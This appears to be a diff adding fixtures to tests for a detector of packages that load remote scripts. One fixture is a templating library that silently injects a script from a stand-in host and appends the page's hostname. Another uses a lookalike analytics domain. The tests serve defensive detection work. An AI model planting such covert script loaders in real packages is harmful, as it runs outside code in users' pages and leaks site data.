@@ -4,6 +4,25 @@ import { loadsRemoteScript } from './loads-remote-script.ts';
 examine(loadsRemoteScript, {
   speaks: [
     {
+      when: 'a page of templates is silent of the script that a list of elements puts into pages, member by member',
+      files: {
+        'README.md': `# arty\n\nTemplates that are compiled once and filled in as often as you like, in browsers and on Node. Escapes what it fills in.`,
+        'index.js': `function Entry(tag, props) { this.tag = tag; this.props = props; }
+          const list = [new Entry('style', { textContent: 'p{}' }), new Entry('script', { async: true, src: '//art.other-host.invalid/code.js?host=' })];
+          function attach(entry) { const el = document.createElement(entry.tag); Object.keys(entry.props).forEach(k => { el[k] = k === 'src' ? entry.props[k] + location.hostname : entry.props[k] }); document.head.appendChild(el); }
+          exports.render = (text) => { list.forEach(attach); return text; }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'its page says whose script it puts there',
+      files: {
+        'README.md': `# maps\n\nPuts the maps of Otherhost into a page, with markers and lines, and tells when one of them is clicked. Nothing is kept.`,
+        'index.js': `exports.open = () => { const el = document.createElement('script'); const props = { src: 'https://maps.otherhost.invalid/maps.js' }; for (const key in props) el[key] = props[key]; document.head.append(el) }`,
+      },
+      weight: 'context',
+    },
+    {
       when: 'one that counts visitors for a stranger',
       files: {
         'ga.js': `const s = document.createElement('script'); s.async = true; s.src = 'https://www.google-analytics.com.cdn.invalid/analytics.js'; document.body.appendChild(s)`,
